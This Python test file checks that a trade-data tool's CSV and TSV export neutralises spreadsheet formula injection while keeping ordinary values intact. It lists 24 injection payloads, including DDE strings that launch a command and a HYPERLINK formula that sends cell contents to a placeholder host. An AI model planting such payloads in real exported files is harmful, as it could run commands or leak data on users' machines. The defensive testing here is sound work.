"""CSV and TSV: what a reader gets back, and that no text cell is a formula."""

from __future__ import annotations

import csv
import io

import pytest

from tests.render.made_up import report
from tradecli.catalogue.style import Style
from tradecli.model.report import Statement
from tradecli.render.delimited import delimited

#: Text that a spreadsheet would run, as it is or after what it skips.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '"=1+1',
    "'=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(server;topic;item)",
)
#: What begins a formula, once a spreadsheet has dropped blanks and what cannot be seen.
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\x00")
INVISIBLE = " \u3000\u00a0\ufeff\u200b"


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_there_are_the_24_payloads() -> None:
    assert len(set(FORMULAS)) == 24


@pytest.mark.parametrize("delimiter", [",", "\t"])
@pytest.mark.parametrize("payload", FORMULAS)
def test_no_text_cell_is_a_formula(payload: str, delimiter: str) -> None:
    named = Statement("column", {"name": payload})
    asked = report((payload, "DE", "FR"), displays={"statement": [named, Statement("change"), None]})
    header, first, *_ = cells(delimited(asked, Style(), delimiter=delimiter), delimiter)
    for name in ("partner", "statement"):
        cell = first[header.index(name)]
        assert not cell.lstrip(INVISIBLE).startswith(STARTS), ascii(cell)
        assert len(header) == len(first)


@pytest.mark.parametrize(
    "safe", ["US", "C++", "a=b", "1+1", "Côte d'Ivoire", "-5.2", "+132.0 %", "-1,234.56", "~x12.3", "–"]
)
def test_what_is_no_formula_stays(safe: str) -> None:
    assert cells(delimited(report((safe, "DE", "FR")), Style()))[1][0] == safe


def test_numbers_are_unrounded_and_untouched() -> None:
    assert delimited(report(), Style()) == (
        "partner,value,yoy,record,vintage,value_display,display_unit\n"
        "US,131027476000,124.02,true,2026-10-08,131.03,billion\n"
        "DE,-5200000,-5.2,false,2026-09-09,-0.01,billion\n"
        "FR,,,,,,billion\n"
    )


def test_a_tab_inside_a_cell_does_not_part_it() -> None:
    text = delimited(report(("a\tb", "c,d", 'e"f')), Style(), delimiter="\t")
    assert [row[0] for row in cells(text, "\t")[1:]] == ["a\\tb", "c,d", 'e"f']
    assert {len(row) for row in cells(text, "\t")} == {7}


def test_quotes_commas_and_line_feeds_come_back() -> None:
    texts = ['say "hi"', "a, b", "two\nlines"]
    text = delimited(report(texts), Style())
    assert [row[0] for row in cells(text)[1:]] == texts
    assert "\r" not in text
